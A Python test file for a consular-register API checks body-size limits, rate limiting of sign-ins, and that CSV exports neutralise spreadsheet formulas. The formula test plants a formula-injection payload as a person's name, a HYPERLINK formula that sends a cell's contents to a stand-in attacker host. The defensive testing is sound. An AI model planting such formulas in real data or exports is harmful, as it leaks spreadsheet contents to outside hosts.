"""The API's limits: a body over CONSULAR_API_MAX_BODY_BYTES refused (413) before it is read,
declared or streamed, recording nothing; codec sign-ins paced per client address (429); CSV
exports that a spreadsheet cannot read as formulas."""

from __future__ import annotations

import csv
import io

import httpx

from exequatur.api.app import create_app
from exequatur.api.limits import AttemptLimit
from tests.helpers import Ministry, establish, head


async def test_a_body_over_the_limit_is_refused_before_it_is_read_and_nothing_is_recorded(http, settings):
    bhs = Ministry(http, "tok-bhs")
    huge = {"with_state": "BRB", "diplomatic_missions": ["BHS"], "padding": "x" * (settings.api_max_body_bytes + 1)}
    response = await http.post("/v1/relations", json=huge, headers=bhs.headers)
    assert response.status_code == 413 and response.headers["content-type"] == "application/problem+json"
    assert response.json()["title"] == "Request body too large"

    async def streamed():  # no Content-Length: counted as it arrives
        for _ in range(settings.api_max_body_bytes // 65536 + 2):
            yield b"x" * 65536

    response = await http.post("/v1/relations", content=streamed(), headers={**bhs.headers,
                                                                              "content-type": "application/json"})
    assert response.status_code == 413
    assert [r for r in await bhs.get("/v1/relations") if r["id"] == "BHS-BRB"] == []  # nothing recorded


async def test_csv_exports_neutralise_what_a_spreadsheet_would_read_as_a_formula(http):
    bhs, brb = Ministry(http, "tok-bhs"), Ministry(http, "tok-brb")
    await establish(bhs, brb, "BRB", diplomatic_missions=["BHS"])
    post = await bhs.post("/v1/posts", {"receiving_state": "BRB", "seat": "Bridgetown", "classification": "consulate",
                                        "district": "Barbados", "headed_by": "career"}, expect=201)
    await brb.act("posts", post["id"], "consent")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    member = await bhs.post(f"/v1/posts/{post['id']}/members", head(
        person={"full_name": formula, "nationalities": ["BHS"], "permanent_resident": False}), expect=201)
    await bhs.act("members", member["id"], "present-instrument")
    await brb.act("members", member["id"], "grant-exequatur")
    response = await http.get("/v1/precedence/BRB", headers={**brb.headers, "Accept": "text/csv"})
    [row] = list(csv.DictReader(io.StringIO(response.text)))
    assert row["full_name"] == "'" + formula  # text to the spreadsheet, the name intact after the apostrophe
    assert (await brb.get(f"/v1/members/{member['id']}"))["person"]["full_name"] == formula  # the register as given


async def test_codec_sign_ins_are_paced_per_client_address(settings):
    app = create_app(settings.model_copy(update={"codec_logins_per_minute": 3}), client=object())  # type: ignore[arg-type]
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://api") as browser:
        answers = [(await browser.post("/codec/login", data={"token": "guess"})).status_code for _ in range(4)]
        assert answers == [401, 401, 401, 429]
        refused = await browser.post("/codec/login", data={"token": "tok-audit"})  # even the right token waits
        assert refused.status_code == 429 and int(refused.headers["Retry-After"]) >= 1
    limit = AttemptLimit(2)
    assert [limit.wait_seconds("a", now) for now in (0, 1, 2)] == [0, 0, 59]
    assert limit.wait_seconds("b", 2) == 0 and limit.wait_seconds("a", 60.5) == 0  # a minute on, and per address
